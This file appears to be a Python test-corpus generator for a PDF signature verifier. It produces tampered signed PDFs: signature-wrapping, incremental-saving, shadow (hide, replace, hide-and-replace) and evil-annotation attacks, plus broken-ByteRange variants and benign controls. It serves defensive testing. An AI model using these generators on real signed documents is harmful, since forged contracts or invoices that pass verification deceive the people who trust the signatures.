#!/usr/bin/env python3
"""tests/tools/pdf_attacks.py - make attacked (and benign) variants of a signed PDF.

    pdf_attacks.py KIND IN OUT [options]
    pdf_attacks.py list

A test corpus generator for `tamga verify` (tests/cli/pdf_verify.sh).  Python 3,
standard library only (plus the openssl CLI for the kinds that sign or
time-stamp).  It parses just enough PDF itself: the cross-reference chain
(classic tables and xref streams, /Prev, object streams), objects and streams.
IN is never modified.

Two families of kinds:

  byte surgery      IN's bytes are edited in place, lengths kept where it
                    matters (the xref offsets stay right): /Contents and
                    /ByteRange of a signature broken, the signature-wrapping
                    attack, a flipped byte inside the signed range, truncation.
                    Works on the last signature unless --sig N (1-based, in
                    file order).
  incremental       one update is appended to IN (IN is an exact prefix of OUT):
                    new or replaced objects, then a cross-reference section in
                    the style of IN's last one (classic table, or an xref
                    stream) and a trailer with /Prev.  The attacks of
                    "Shadow Attacks" (Mainka, Mladenov, Rohlmann, NDSS 2021),
                    "1 Trillion Dollar Refund" (Mladenov et al., CCS 2019) and
                    "Breaking the Specification: PDF Certification" (Rohlmann
                    et al., S&P 2021), and the benign updates a verifier must
                    accept (form fill, DSS, document time-stamp).

Generators take IN as "-": form-pdf writes a small PDF with an AcroForm text
field; shadow-prepare adds to an unsigned PDF the hidden objects that the
shadow attacks later activate (sign its output, then run shadow-hide,
shadow-replace or hide-and-replace on the signed file).

Exit status 0, or 2 with a message when IN does not have what KIND needs.
"""
import argparse
import base64
import hashlib
import os
import re
import subprocess
import sys
import tempfile
import urllib.request
import zlib


class Fail(Exception):
    pass


# ============================================================ objects

class Name(str):
    """A name, as its raw bytes after the slash (latin-1), #xx escapes kept."""


class Ref(tuple):
    def __new__(cls, num, gen=0):
        return tuple.__new__(cls, (num, gen))

    num = property(lambda self: self[0])
    gen = property(lambda self: self[1])


class LitStr(bytes):
    """A literal string, as its raw bytes between the parentheses."""

    @staticmethod
    def of(text):
        if isinstance(text, str):
            text = text.encode("latin-1")
        return LitStr(text.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
                      .replace(b"\r", b"\\r").replace(b"\n", b"\\n"))


class HexStr(bytes):
    """A hex string, as its raw hex digits."""


class Raw(bytes):
    """A token written back as it was read (numbers, true/false/null)."""


class Stream:
    def __init__(self, d, raw):
        self.dict = d      # the stream dictionary
        self.raw = raw     # the encoded data as in the file


WS = b" \t\r\n\f\x00"
DELIM = b"()<>[]{}/%"
NUM_RE = re.compile(rb"[+-]?(\d+\.?\d*|\.\d+)")
REF_RE = re.compile(rb"(\d+)\s+(\d+)\s+R(?=[\s/<>\[\]()%]|$)")


def skip_ws(b, i):
    n = len(b)
    while i < n:
        c = b[i]
        if c in WS:
            i += 1
        elif c == 0x25:  # % comment
            while i < n and b[i] not in b"\r\n":
                i += 1
        else:
            break
    return i


def parse(b, i):
    """(object, offset after it) of the object at b[i:]."""
    i = skip_ws(b, i)
    if i >= len(b):
        raise Fail("unexpected end of data at %d" % i)
    c = b[i:i + 1]
    if b.startswith(b"<<", i):
        d = {}
        i += 2
        while True:
            i = skip_ws(b, i)
            if b.startswith(b">>", i):
                return d, i + 2
            k, i = parse(b, i)
            if not isinstance(k, Name):
                raise Fail("dictionary key is not a name at %d" % i)
            v, i = parse(b, i)
            d[k] = v
    if c == b"[":
        a = []
        i += 1
        while True:
            i = skip_ws(b, i)
            if b.startswith(b"]", i):
                return a, i + 1
            v, i = parse(b, i)
            a.append(v)
    if c == b"/":
        j = i + 1
        while j < len(b) and b[j] not in WS and b[j] not in DELIM:
            j += 1
        return Name(b[i + 1:j].decode("latin-1")), j
    if c == b"(":
        depth, j = 1, i + 1
        while depth:
            if j >= len(b):
                raise Fail("unterminated string at %d" % i)
            ch = b[j]
            if ch == 0x5C:
                j += 2
                continue
            if ch == 0x28:
                depth += 1
            elif ch == 0x29:
                depth -= 1
            j += 1
        return LitStr(b[i + 1:j - 1]), j
    if c == b"<":
        j = b.index(b">", i)
        return HexStr(re.sub(rb"\s", b"", b[i + 1:j])), j + 1
    m = REF_RE.match(b, i)
    if m:
        return Ref(int(m.group(1)), int(m.group(2))), m.end()
    m = NUM_RE.match(b, i)
    if m:
        return Raw(m.group(0)), m.end()
    for kw in (b"true", b"false", b"null"):
        if b.startswith(kw, i):
            return Raw(kw), i + len(kw)
    raise Fail("cannot parse the object at offset %d: %r" % (i, b[i:i + 20]))


def ser(o):
    if isinstance(o, Stream):
        d = dict(o.dict)
        d[Name("Length")] = Raw(b"%d" % len(o.raw))
        return ser(d) + b"\nstream\n" + o.raw + b"\nendstream"
    if isinstance(o, dict):
        return b"<<" + b"".join(b"/" + k.encode("latin-1") + b" " + ser(v) for k, v in o.items()) + b">>"
    if isinstance(o, list):
        return b"[" + b" ".join(ser(v) for v in o) + b"]"
    if isinstance(o, Name):
        return b"/" + o.encode("latin-1")
    if isinstance(o, Ref):
        return b"%d %d R" % (o.num, o.gen)
    if isinstance(o, LitStr):
        return b"(" + bytes(o) + b")"
    if isinstance(o, HexStr):
        return b"<" + bytes(o) + b">"
    if isinstance(o, Raw):
        return bytes(o)
    if isinstance(o, bool):
        return b"true" if o else b"false"
    if isinstance(o, int):
        return b"%d" % o
    if isinstance(o, float):
        return (b"%.4f" % o).rstrip(b"0").rstrip(b".")
    if o is None:
        return b"null"
    raise TypeError("cannot serialise %r" % (o,))


def num(o):
    if isinstance(o, Raw):
        s = bytes(o)
        return float(s) if b"." in s else int(s)
    if isinstance(o, (int, float)):
        return o
    raise Fail("not a number: %r" % (o,))


def png_unpredict(data, columns):
    out, prev, row = bytearray(), bytearray(columns), columns + 1
    for k in range(0, len(data) - len(data) % row, row):
        ft, line = data[k], bytearray(data[k + 1:k + row])
        for x in range(columns):
            a = line[x - 1] if x else 0
            up = prev[x]
            c = prev[x - 1] if x else 0
            if ft == 1:
                line[x] = (line[x] + a) & 255
            elif ft == 2:
                line[x] = (line[x] + up) & 255
            elif ft == 3:
                line[x] = (line[x] + (a + up) // 2) & 255
            elif ft == 4:
                p = a + up - c
                pa, pb, pc = abs(p - a), abs(p - up), abs(p - c)
                line[x] = (line[x] + (a if pa <= pb and pa <= pc else up if pb <= pc else c)) & 255
        out += line
        prev = line
    return bytes(out)


# ============================================================ document

class Pdf:
    def __init__(self, data):
        if not data.startswith(b"%PDF-"):
            raise Fail("not a PDF (no %PDF- header)")
        self.data = data
        self.xref = {}       # num -> ("n", offset, gen) | ("c", objstm, index)
        self.trailer = None  # the newest trailer (dictionary)
        pos = data.rfind(b"startxref")
        if pos < 0:
            raise Fail("no startxref")
        self.startxref = int(data[pos + 9:].split()[0])
        self.last_is_stream = None
        seen, off = set(), self.startxref
        while off is not None and off not in seen:
            seen.add(off)
            trailer, is_stream = self._section(off)
            if self.last_is_stream is None:
                self.last_is_stream = is_stream
            if self.trailer is None:
                self.trailer = trailer
            if "XRefStm" in trailer:
                self._section(num(trailer["XRefStm"]))
            off = num(trailer["Prev"]) if "Prev" in trailer else None
        self.cache = {}
        self.size = max(num(self.trailer["Size"]), max(self.xref) + 1 if self.xref else 1)

    def _section(self, off):
        d = self.data
        i = skip_ws(d, off)
        if d.startswith(b"xref", i):
            i += 4
            while True:
                i = skip_ws(d, i)
                if d.startswith(b"trailer", i):
                    trailer, _ = parse(d, i + 7)
                    return trailer, False
                m = re.compile(rb"(\d+)\s+(\d+)").match(d, i)
                if not m:
                    raise Fail("bad xref subsection at %d" % i)
                first, count = int(m.group(1)), int(m.group(2))
                i = m.end()
                for k in range(count):
                    i = skip_ws(d, i)
                    m = re.compile(rb"(\d{1,10})\s+(\d{1,5})\s+([nf])").match(d, i)
                    if not m:
                        raise Fail("bad xref entry at %d" % i)
                    i = m.end()
                    if m.group(3) == b"n" and first + k not in self.xref:
                        self.xref[first + k] = ("n", int(m.group(1)), int(m.group(2)))
                    elif m.group(3) == b"f" and first + k not in self.xref:
                        self.xref[first + k] = ("f", 0, 0)
        _, _, obj, _ = self._read_at(off)
        if not isinstance(obj, Stream) or obj.dict.get("Type") != "XRef":
            raise Fail("startxref %d points at neither xref nor an xref stream" % off)
        data = self.decode(obj)
        w = [num(x) for x in obj.dict["W"]]
        index = [num(x) for x in obj.dict.get("Index", [Raw(b"0"), obj.dict["Size"]])]
        p = 0
        for s in range(0, len(index), 2):
            for k in range(index[s + 1]):
                f = []
                for width in w:
                    f.append(int.from_bytes(data[p:p + width], "big") if width else None)
                    p += width
                t = 1 if f[0] is None else f[0]
                n = index[s] + k
                if n in self.xref:
                    continue
                if t == 1:
                    self.xref[n] = ("n", f[1], f[2] or 0)
                elif t == 2:
                    self.xref[n] = ("c", f[1], f[2])
                else:
                    self.xref[n] = ("f", 0, 0)
        return obj.dict, True

    def _read_at(self, off):
        """(num, gen, object, end offset) of the indirect object at off."""
        d = self.data
        m = re.compile(rb"\s*(\d+)\s+(\d+)\s+obj").match(d, off)
        if not m:
            raise Fail("no 'N G obj' at offset %d" % off)
        obj, i = parse(d, m.end())
        j = skip_ws(d, i)
        if isinstance(obj, dict) and d.startswith(b"stream", j):
            j += 6
            if d.startswith(b"\r\n", j):
                j += 2
            elif d.startswith(b"\n", j) or d.startswith(b"\r", j):
                j += 1
            ln = obj.get("Length")
            if isinstance(ln, Ref):
                ln = num(self.get(ln.num))
            else:
                ln = num(ln)
            if not d.startswith(b"endstream", skip_ws(d, j + ln)):
                k = d.find(b"endstream", j)  # a wrong /Length: trust the keyword
                ln = k - j
                while ln > 0 and d[j + ln - 1] in b"\r\n":
                    ln -= 1
            obj = Stream(obj, d[j:j + ln])
            i = j + ln
        return int(m.group(1)), int(m.group(2)), obj, i

    def offset(self, n):
        e = self.xref.get(n)
        return e[1] if e and e[0] == "n" else None

    def get(self, n):
        if isinstance(n, Ref):
            n = n.num
        if n in self.cache:
            return self.cache[n]
        e = self.xref.get(n)
        if e is None or e[0] == "f":
            return None
        if e[0] == "n":
            obj = self._read_at(e[1])[2]
        else:
            stm = self.get(e[1])
            data = self.decode(stm)
            first = num(stm.dict["First"])
            head = data[:first].split()
            pairs = [(int(head[k]), int(head[k + 1])) for k in range(0, len(head) - 1, 2)]
            obj = parse(data, first + pairs[e[2]][1])[0]
        self.cache[n] = obj
        return obj

    def resolve(self, o):
        return self.get(o) if isinstance(o, Ref) else o

    def decode(self, s):
        data = s.raw
        filt = self.resolve(s.dict.get("Filter"))
        parms = self.resolve(s.dict.get("DecodeParms"))
        if isinstance(filt, list):
            filt = filt[0] if filt else None
            parms = parms[0] if isinstance(parms, list) and parms else parms
        if filt is None:
            return data
        if filt != "FlateDecode":
            raise Fail("cannot decode /%s" % filt)
        data = zlib.decompress(data)
        if isinstance(parms, dict) and num(parms.get("Predictor", Raw(b"1"))) >= 10:
            data = png_unpredict(data, num(parms.get("Columns", Raw(b"1"))))
        return data

    # ---------------------------------------------------- navigation
    def root_num(self):
        r = self.trailer.get("Root")
        if not isinstance(r, Ref):
            raise Fail("the trailer has no /Root reference")
        return r.num

    def catalog(self):
        return self.get(self.root_num())

    def pages(self):
        """[(page object number, page dict)] in order."""
        out = []

        def walk(ref, depth):
            node = self.get(ref)
            if depth > 32 or not isinstance(node, dict):
                return
            if node.get("Type") == "Pages" or "Kids" in node:
                for k in self.resolve(node.get("Kids", [])):
                    walk(k, depth + 1)
            else:
                out.append((ref.num, node))
        walk(self.catalog()["Pages"], 0)
        return out

    def objects(self):
        for n in sorted(self.xref):
            if self.xref[n][0] != "f":
                try:
                    yield n, self.get(n)
                except Fail:
                    pass

    def referenced(self):
        """Object numbers referenced from any object or the trailer."""
        refs = set()

        def scan(o):
            if isinstance(o, Ref):
                refs.add(o.num)
            elif isinstance(o, dict):
                for v in o.values():
                    scan(v)
            elif isinstance(o, list):
                for v in o:
                    scan(v)
            elif isinstance(o, Stream):
                scan(o.dict)
        for _, o in self.objects():
            scan(o)
        scan(self.trailer)
        return refs

    def signatures(self):
        """[(sig dict offset region, /ByteRange match, /Contents match)] of every signature
        dictionary written in the file (by its bytes, oldest first)."""
        out = []
        for m in re.finditer(rb"/ByteRange\s*\[([^\]]*)\]", self.data):
            c = re.compile(rb"/Contents\s*(<)([0-9A-Fa-f\s]*)(>)")
            # the /Contents of the same dictionary: the nearest one either side
            after = c.search(self.data, m.end(), m.end() + 200000)
            before = None
            for bm in c.finditer(self.data, max(0, m.start() - 200000), m.start()):
                before = bm
            cand = [x for x in (after, before) if x is not None]
            if not cand:
                raise Fail("a /ByteRange without /Contents")
            cm = min(cand, key=lambda x: abs(x.start() - m.start()))
            out.append((m, cm))
        return out


def load(path):
    with open(path, "rb") as f:
        return Pdf(f.read())


# ============================================================ incremental update

class Update:
    """Objects to append to a PDF as one incremental update."""

    def __init__(self, pdf):
        self.pdf = pdf
        self.objs = {}
        self.next = pdf.size

    def new(self, obj=None):
        n = self.next
        self.next += 1
        self.objs[n] = obj
        return n

    def set(self, n, obj):
        self.objs[n] = obj

    def trailer_entries(self):
        t = {}
        for k in ("Root", "Info", "ID", "Encrypt"):
            if k in self.pdf.trailer:
                t[Name(k)] = self.pdf.trailer[k]
        return t

    def bytes(self, xref_stream=None):
        """The update's bytes (to append to pdf.data)."""
        base = len(self.pdf.data)
        out = bytearray()
        if not self.pdf.data.endswith((b"\n", b"\r")):
            out += b"\n"
        offsets = {}
        for n in sorted(self.objs):
            offsets[n] = base + len(out)
            out += b"%d 0 obj\n" % n + ser(self.objs[n]) + b"\nendobj\n"
        if xref_stream is None:
            xref_stream = self.pdf.last_is_stream
        size = max(max(offsets) + 1, self.pdf.size)
        t = self.trailer_entries()
        if xref_stream:
            xn = size
            size += 1
            offsets[xn] = base + len(out)
            nums = sorted(offsets)
            index, rows = [], bytearray()
            for n in nums:
                if index and index[-2] + index[-1] == n:
                    index[-1] += 1
                else:
                    index += [n, 1]
                rows += b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00"
            d = {Name("Type"): Name("XRef"), Name("Size"): size, Name("Index"): index,
                 Name("W"): [1, 4, 2]}
            d.update(t)
            d[Name("Prev")] = self.pdf.startxref
            out += b"%d 0 obj\n" % xn + ser(Stream(d, bytes(rows))) + b"\nendobj\n"
            out += b"startxref\n%d\n%%%%EOF\n" % offsets[xn]
        else:
            xref_at = base + len(out)
            out += b"xref\n"
            nums = sorted(offsets)
            runs = []
            for n in nums:
                if runs and runs[-1][0] + len(runs[-1][1]) == n:
                    runs[-1][1].append(n)
                else:
                    runs.append((n, [n]))
            for first, ns in runs:
                out += b"%d %d\n" % (first, len(ns))
                for n in ns:
                    out += b"%010d 00000 n\r\n" % offsets[n]
            t[Name("Size")] = size
            t[Name("Prev")] = self.pdf.startxref
            out += b"trailer\n" + ser(t) + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at
        return bytes(out)


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def content_stream(text, x=56, y=700, size=18):
    """An uncompressed content stream drawing text in Helvetica (/F1 in the page's resources
    or the /TamgaAtk font the callers add)."""
    return Stream({}, b"BT /TamgaAtk %d Tf %d %d Td (%s) Tj ET" % (size, x, y, bytes(LitStr.of(text))))


HELV = {Name("Type"): Name("Font"), Name("Subtype"): Name("Type1"), Name("BaseFont"): Name("Helvetica"),
        Name("Encoding"): Name("WinAnsiEncoding")}


def with_font(pdf, page, font_ref):
    """A copy of the page dictionary whose resources have /TamgaAtk."""
    page = dict(page)
    res = dict(pdf.resolve(page.get("Resources", {})) or {})
    fonts = dict(pdf.resolve(res.get("Font", {})) or {})
    fonts[Name("TamgaAtk")] = font_ref
    res[Name("Font")] = fonts
    page[Name("Resources")] = res
    return page


def contents_list(pdf, page):
    c = page.get("Contents")
    c = pdf.resolve(c) if isinstance(c, Ref) and isinstance(pdf.get(c), list) else c
    if c is None:
        return []
    return list(c) if isinstance(c, list) else [c]


def page_at(pdf, n):
    pages = pdf.pages()
    if not 1 <= n <= len(pages):
        raise Fail("no page %d (the document has %d)" % (n, len(pages)))
    return pages[n - 1]


# ============================================================ byte surgery

def last_sig(pdf, which):
    sigs = pdf.signatures()
    if not sigs:
        raise Fail("no signature (/ByteRange) in the input")
    if which is None:
        return sigs[-1]
    if not 1 <= which <= len(sigs):
        raise Fail("no signature %d (the input has %d)" % (which, len(sigs)))
    return sigs[which - 1]


def blank(data, start, end, text=b""):
    """data with [start, end) replaced by text padded with spaces to the same length."""
    if len(text) > end - start:
        raise Fail("replacement longer than the original")
    return data[:start] + text + b" " * (end - start - len(text)) + data[end:]


def byte_range(pdf, br):
    return [int(x) for x in br.group(1).split()]


def k_contents_removed(pdf, a):
    br, c = last_sig(pdf, a.sig)
    return blank(pdf.data, c.start(), c.end())


def k_contents_empty(pdf, a):
    br, c = last_sig(pdf, a.sig)
    return blank(pdf.data, c.start(), c.end(), b"/Contents <>")


def k_contents_zeros(pdf, a):
    br, c = last_sig(pdf, a.sig)
    hexlen = c.end(2) - c.start(2)
    return pdf.data[:c.start(2)] + b"0" * hexlen + pdf.data[c.end(2):]


def set_byte_range(pdf, a, text):
    br, c = last_sig(pdf, a.sig)
    return blank(pdf.data, br.start(), br.end(), text)


def k_byterange_removed(pdf, a):
    return set_byte_range(pdf, a, b"")


def k_byterange_zeros(pdf, a):
    return set_byte_range(pdf, a, b"/ByteRange [0 0 0 0]")


def k_byterange_three(pdf, a):
    br, _ = last_sig(pdf, a.sig)
    r = byte_range(pdf, br)
    return set_byte_range(pdf, a, b"/ByteRange [%d %d %d]" % (r[0], r[1], r[2]))


def k_byterange_negative(pdf, a):
    br, _ = last_sig(pdf, a.sig)
    r = byte_range(pdf, br)
    # the second range starts where it should but has a negative length
    return set_byte_range(pdf, a, b"/ByteRange [%d %d %d -%d]" % (r[0], r[1], r[2], r[3]))


def k_byterange_gap(pdf, a):
    br, c = last_sig(pdf, a.sig)
    r = byte_range(pdf, br)
    k = a.by
    # the gap starts k bytes before the '<' of /Contents: those bytes are left unsigned
    return set_byte_range(pdf, a, b"/ByteRange [%d %d %d %d]" % (r[0], r[1] - k, r[2], r[3]))


def k_wrapping(pdf, a):
    """The signature wrapping attack (Mladenov et al., CCS 2019, "SWA"): the signed second
    part is moved further back, the gap grows to hold the original /Contents, a second
    /ByteRange that points at the moved part (a duplicate key: readers that take the last
    one hash exactly the signed bytes) and the attacker's objects; a new cross-reference
    table makes the attacker's page content the one displayed."""
    br, c = last_sig(pdf, a.sig)
    if pdf.last_is_stream:
        raise Fail("wrapping: the input's last cross-reference section is a stream (need a classic table)")
    r = byte_range(pdf, br)
    d = pdf.data
    b, cc = r[0] + r[1], r[2]
    if d[b:b + 1] != b"<" or d[cc - 1:cc] != b">" or br.start() > b:
        raise Fail("wrapping: expected /ByteRange before /Contents and the gap to be exactly <...>")
    part1, contents, part2 = d[:b], d[b:cc], d[cc:]
    pnum, page = page_at(pdf, a.page)
    upd = Update(pdf)
    font = upd.new(HELV)
    cs = upd.new(content_stream(a.text))
    newpage = with_font(pdf, page, Ref(font))
    newpage[Name("Contents")] = Ref(cs)
    gap = bytearray(contents)
    gap_start = len(part1)
    # the new ByteRange: [0 b c* d]; c* known once the gap is laid out, fixed width
    gap += b" /ByteRange [0 %d ********** %d] >>\nendobj\n" % (b, r[3])
    new_offsets = {}
    for n, obj in ((font, HELV), (cs, upd.objs[cs]), (pnum, newpage)):
        new_offsets[n] = gap_start + len(gap)
        gap += b"%d 0 obj\n" % n + ser(obj) + b"\nendobj\n"
    gap += b"%"  # the rest of the original signature dictionary becomes a comment line
    cstar = gap_start + len(gap)
    gap = bytes(gap).replace(b"**********", b"%-10d" % cstar)
    delta = cstar - cc
    out = bytearray(part1 + gap + part2)
    # a complete new cross-reference table: old objects at their (shifted) offsets
    offs = {}
    for n, e in pdf.xref.items():
        if e[0] == "n":
            offs[n] = e[1] + (delta if e[1] >= cc else 0)
    offs.update(new_offsets)
    if not out.endswith(b"\n"):
        out += b"\n"
    xref_at = len(out)
    size = max(offs) + 1
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % size
    for n in range(1, size):
        out += (b"%010d 00000 n\r\n" % offs[n]) if n in offs else b"0000000000 65535 f\r\n"
    t = upd.trailer_entries()
    t[Name("Size")] = size
    out += b"trailer\n" + ser(t) + b"\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def k_tamper_text(pdf, a):
    """One letter of a text string in page 1's (uncompressed) content stream, inside the
    signed bytes: the file still parses, only the hash can tell."""
    _, page = page_at(pdf, a.page)
    for ref in contents_list(pdf, page):
        if not isinstance(ref, Ref):
            continue
        off = pdf.offset(ref.num)
        s = pdf.get(ref)
        if off is None or not isinstance(s, Stream) or "Filter" in s.dict:
            continue
        start = pdf.data.index(s.raw, off)
        m = re.search(rb"\(([^()\\]*?)([a-z])", s.raw)
        if m:
            at = start + m.start(2)
            d = bytearray(pdf.data)
            d[at] = ord(d[at:at + 1].upper())
            return bytes(d)
    raise Fail("tamper-text: no uncompressed content stream with a text string on page %d" % a.page)


def k_tamper_middle(pdf, a):
    """The end-of-line after the 'endobj' nearest the middle of the signed bytes becomes a
    carriage return (or a space): no offset moves, the structure stays, the hash breaks."""
    br, _ = last_sig(pdf, a.sig)
    r = byte_range(pdf, br)
    mid = (r[0] + r[1]) // 2
    best = None
    for m in re.finditer(rb"endobj(\r?\n|\r| )", pdf.data[:r[0] + r[1]]):
        if best is None or abs(m.end(1) - 1 - mid) < abs(best - mid):
            best = m.end(1) - 1
    if best is None:
        raise Fail("tamper-middle: no 'endobj' in the first signed range")
    d = bytearray(pdf.data)
    d[best] = 0x0D if d[best] != 0x0D else 0x20
    return bytes(d)


def k_flip(pdf, a):
    if a.offset is None or not 0 <= a.offset < len(pdf.data):
        raise Fail("flip: --offset inside the file is required")
    d = bytearray(pdf.data)
    d[a.offset] ^= a.xor
    return bytes(d)


def k_truncate(pdf, a):
    keep = a.keep if a.keep is not None else len(pdf.data) // 2
    return pdf.data[:keep]


# ============================================================ incremental attacks

def k_isa_replace(pdf, a):
    """Incremental saving attack: page N's /Contents replaced by a new stream."""
    pnum, page = page_at(pdf, a.page)
    u = Update(pdf)
    font = u.new(HELV)
    cs = u.new(content_stream(a.text))
    p = with_font(pdf, page, Ref(font))
    p[Name("Contents")] = Ref(cs)
    u.set(pnum, p)
    return pdf.data + u.bytes()


def k_isa_add(pdf, a):
    """Incremental saving attack: a new content stream added to page N, drawn after the old."""
    pnum, page = page_at(pdf, a.page)
    u = Update(pdf)
    font = u.new(HELV)
    # a white box over the old text, then the attacker's
    cs = u.new(Stream({}, b"q 1 g 0 0 595 842 re f Q " + content_stream(a.text).raw))
    p = with_font(pdf, page, Ref(font))
    p[Name("Contents")] = contents_list(pdf, page) + [Ref(cs)]
    u.set(pnum, p)
    return pdf.data + u.bytes()


def k_shadow_prepare(pdf, a):
    """For the shadow attacks, added to an UNSIGNED document (sign the output):
    a hidden, unused content stream (shadow-hide); a form XObject /TamgaOv that page N draws
    on top of its content (shadow-replace); an unused page tree whose page shows the
    attacker's text (hide-and-replace)."""
    pnum, page = page_at(pdf, a.page)
    u = Update(pdf)
    font = u.new(HELV)
    u.new(content_stream(a.text))  # the hidden content stream, referenced by nothing
    ov = u.new(Stream({Name("Type"): Name("XObject"), Name("Subtype"): Name("Form"),
                       Name("BBox"): [0, 0, 595, 842],
                       Name("Resources"): {Name("Font"): {Name("TamgaAtk"): Ref(font)}}},
                      b"BT /TamgaAtk 10 Tf 56 40 Td (Overlay: signed text) Tj ET"))
    draw = u.new(Stream({}, b"q /TamgaOv Do Q"))
    p = with_font(pdf, page, Ref(font))
    res = p[Name("Resources")]
    xo = dict(pdf.resolve(res.get("XObject", {})) or {})
    xo[Name("TamgaOv")] = Ref(ov)
    res[Name("XObject")] = xo
    p[Name("Contents")] = contents_list(pdf, page) + [Ref(draw)]
    u.set(pnum, p)
    alt_pages = u.new()
    alt_cs = u.new(content_stream(a.text))
    alt_page = u.new({Name("Type"): Name("Page"), Name("Parent"): Ref(alt_pages),
                      Name("MediaBox"): page.get("MediaBox", [0, 0, 595, 842]),
                      Name("Resources"): {Name("Font"): {Name("TamgaAtk"): Ref(font)}},
                      Name("Contents"): Ref(alt_cs)})
    u.set(alt_pages, {Name("Type"): Name("Pages"), Name("Kids"): [Ref(alt_page)], Name("Count"): 1})
    return pdf.data + u.bytes()


def unreferenced(pdf, pred):
    refs = pdf.referenced()
    for n, o in pdf.objects():
        if n not in refs and pred(o):
            return n
    return None


def k_shadow_hide(pdf, a):
    """Shadow "hide": page N's /Contents re-pointed at a content stream that was already in
    the signed file, unused (made by shadow-prepare)."""
    pnum, page = page_at(pdf, a.page)
    n = a.obj or unreferenced(pdf, lambda o: isinstance(o, Stream) and "Type" not in o.dict
                              and b" Tj" in o.raw)
    if n is None:
        raise Fail("shadow-hide: no unused content stream in the input (run shadow-prepare before signing)")
    u = Update(pdf)
    p = dict(page)
    p[Name("Contents")] = Ref(n)
    u.set(pnum, p)
    return pdf.data + u.bytes()


def k_shadow_replace(pdf, a):
    """Shadow "replace": the overlay form XObject page N draws (/TamgaOv, made by
    shadow-prepare) gets a new version with the attacker's text: same object number."""
    _, page = page_at(pdf, a.page)
    res = pdf.resolve(page.get("Resources", {})) or {}
    xo = pdf.resolve(res.get("XObject", {})) or {}
    ref = a.obj and Ref(a.obj) or xo.get("TamgaOv")
    if not isinstance(ref, Ref):
        raise Fail("shadow-replace: page %d draws no /TamgaOv XObject (run shadow-prepare before signing)" % a.page)
    old = pdf.get(ref)
    u = Update(pdf)
    u.set(ref.num, Stream(dict(old.dict), b"q 1 g 0 0 595 842 re f Q BT /TamgaAtk 18 Tf 56 700 Td (%s) Tj ET"
                          % bytes(LitStr.of(a.text))))
    return pdf.data + u.bytes()


def k_hide_and_replace(pdf, a):
    """Shadow "hide-and-replace": the catalog's /Pages swapped for a page tree that was
    already in the signed file, unused (made by shadow-prepare)."""
    used = set()

    def walk(ref, depth):
        node = pdf.get(ref)
        if isinstance(ref, Ref) and depth < 32 and isinstance(node, dict) and ref.num not in used:
            used.add(ref.num)
            for k in pdf.resolve(node.get("Kids", [])) or []:
                walk(k, depth + 1)
    walk(pdf.catalog().get("Pages"), 0)
    n = a.obj or next((n for n, o in pdf.objects()
                       if n not in used and isinstance(o, dict) and o.get("Type") == "Pages"), None)
    if n is None:
        raise Fail("hide-and-replace: no unused page tree in the input (run shadow-prepare before signing)")
    u = Update(pdf)
    cat = dict(pdf.catalog())
    cat[Name("Pages")] = Ref(n)
    u.set(pdf.root_num(), cat)
    return pdf.data + u.bytes()


def k_freetext(pdf, a):
    """Evil annotation (Rohlmann et al., S&P 2021): a FreeText annotation added to page N."""
    pnum, page = page_at(pdf, a.page)
    u = Update(pdf)
    annot = u.new({Name("Type"): Name("Annot"), Name("Subtype"): Name("FreeText"),
                   Name("Rect"): [56, 690, 540, 720], Name("Contents"): LitStr.of(a.text),
                   Name("DA"): LitStr.of("/Helv 18 Tf 0 g"), Name("F"): 4, Name("P"): Ref(pnum)})
    p = dict(page)
    annots = pdf.resolve(page.get("Annots", []))
    p[Name("Annots")] = list(annots or []) + [Ref(annot)]
    u.set(pnum, p)
    return pdf.data + u.bytes()


def k_form_pdf(pdf, a):
    """A one-page PDF (classic xref) with an AcroForm text field /T (a.field), empty, with
    an appearance stream; Helvetica as /Helv in /DR."""
    objs = {}
    objs[1] = {Name("Type"): Name("Catalog"), Name("Pages"): Ref(2), Name("AcroForm"): Ref(6)}
    objs[2] = {Name("Type"): Name("Pages"), Name("Kids"): [Ref(3)], Name("Count"): 1}
    objs[3] = {Name("Type"): Name("Page"), Name("Parent"): Ref(2), Name("MediaBox"): [0, 0, 595, 842],
               Name("Resources"): {Name("Font"): {Name("F1"): Ref(5)}}, Name("Contents"): Ref(4),
               Name("Annots"): [Ref(7)]}
    objs[4] = Stream({}, b"BT /F1 14 Tf 56 780 Td (Application form: fill in your name below.) Tj ET\n"
                     b"BT /F1 11 Tf 56 730 Td (Name:) Tj ET")
    objs[5] = HELV
    objs[6] = {Name("Fields"): [Ref(7)], Name("DR"): {Name("Font"): {Name("Helv"): Ref(5)}},
               Name("DA"): LitStr.of("/Helv 12 Tf 0 g")}
    objs[7] = {Name("Type"): Name("Annot"), Name("Subtype"): Name("Widget"), Name("FT"): Name("Tx"),
               Name("T"): LitStr.of(a.field), Name("Rect"): [100, 720, 400, 745], Name("F"): 4,
               Name("P"): Ref(3), Name("DA"): LitStr.of("/Helv 12 Tf 0 g"),
               Name("AP"): {Name("N"): Ref(8)}}
    objs[8] = Stream({Name("Type"): Name("XObject"), Name("Subtype"): Name("Form"), Name("BBox"): [0, 0, 300, 25],
                      Name("Resources"): {Name("Font"): {Name("Helv"): Ref(5)}}}, b"/Tx BMC EMC")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + ser(objs[n]) + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % (len(objs) + 1)
    for n in sorted(objs):
        out += b"%010d 00000 n\r\n" % offs[n]
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return bytes(out)


def find_field(pdf, name, ft):
    acro = pdf.resolve(pdf.catalog().get("AcroForm"))
    if not isinstance(acro, dict):
        raise Fail("no /AcroForm")
    stack = list(pdf.resolve(acro.get("Fields", [])))
    while stack:
        ref = stack.pop(0)
        f = pdf.get(ref)
        if not isinstance(f, dict):
            continue
        t = f.get("T")
        if f.get("FT") == ft and (name is None or (isinstance(t, LitStr) and bytes(t) == name.encode())):
            return ref.num, f
        stack += list(pdf.resolve(f.get("Kids", [])))
    raise Fail("no /%s field%s" % (ft, "" if name is None else " named " + name))


